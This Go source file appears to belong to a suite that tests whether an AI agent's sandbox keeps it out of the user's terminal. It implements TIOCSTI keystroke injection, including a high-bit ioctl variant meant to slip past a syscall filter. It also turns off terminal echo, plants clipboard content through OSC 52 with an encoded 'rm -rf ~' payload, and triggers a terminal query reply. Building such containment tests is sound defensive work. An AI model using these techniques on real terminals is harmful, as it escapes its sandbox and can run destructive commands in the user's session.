package attack

import (
	"errors"
	"fmt"
	"os"
	"strings"
	"syscall"
)

// The terminal that the user goes on typing into.

func init() { lazily(addTty) }

func addTty() {
	const claim = "the user's terminal is not the agent's"
	onTerminal := Launch{Terminal: true}
	register(
		Attack{ID: "tiocsti", Claim: claim, What: "push a command line into the user's terminal (TIOCSTI)", Launch: onTerminal, Try: pushInput,
			Judge: func(f *Fixture) Finding {
				return found(strings.Contains(f.last.typed, pushed), "the user's shell would read what nobody typed")
			}, Missing: switchedOff("/proc/sys/dev/tty/legacy_tiocsti", "1")},
		Attack{ID: "tty-modes", Claim: claim, What: "leave the user's terminal without echo", Launch: onTerminal, Try: func(Layout) error {
			var m syscall.Termios
			if _, err := call(syscall.SYS_IOCTL, 0, syscall.TCGETS, pointer(&m)); err != nil {
				return err
			}
			m.Lflag &^= syscall.ECHO | syscall.ICANON
			_, err := call(syscall.SYS_IOCTL, 0, syscall.TCSETS, pointer(&m))
			return err
		}, Judge: func(f *Fixture) Finding {
			return found(f.last.modesChanged, "the terminal has other modes than before")
		}},
		Attack{ID: "tty-clipboard", Claim: claim, What: "set the user's clipboard by an escape sequence (OSC 52)", Launch: onTerminal, Try: func(Layout) error {
			_, err := fmt.Print(clipboard + ";c;cm0gLXJmIH4K\a")
			return err
		}, Judge: func(f *Fixture) Finding {
			return found(strings.Contains(f.last.output, clipboard), "the terminal was told to fill the clipboard")
		}},
		Attack{ID: "tty-query", Claim: claim, What: "make the user's terminal type its answer to a query", Launch: onTerminal, Try: func(Layout) error {
			_, err := fmt.Print(query)
			return err
		}, Judge: func(f *Fixture) Finding {
			return found(strings.Contains(f.last.output, query), "the terminal was asked a question whose answer it types")
		}},
	)
}

const (
	pushed    = "lane-attack-typed"
	clipboard = "\x1b]52"
	query     = "\x1b[21t" // the title of the window, as if it were typed
)

func pushInput(Layout) error {
	const tiocsti = 0x5412
	terminals := []*os.File{os.Stdin, os.Stdout, os.Stderr}
	if f, err := os.OpenFile("/dev/tty", os.O_RDWR, 0); err == nil {
		terminals = append(terminals, f)
	}
	var tries []error
	for _, f := range terminals {
		// The kernel takes the low 32 bits; a filter may compare all 64.
		for _, request := range []uintptr{tiocsti, tiocsti | 1<<32} {
			var err error
			for _, c := range []byte(pushed + "\n") {
				if err == nil {
					_, err = call(syscall.SYS_IOCTL, f.Fd(), request, pointer(&c))
				}
			}
			tries = append(tries, err)
		}
	}
	if len(tries) == 0 {
		return errors.New("no terminal")
	}
	return anyOf(tries...)
}
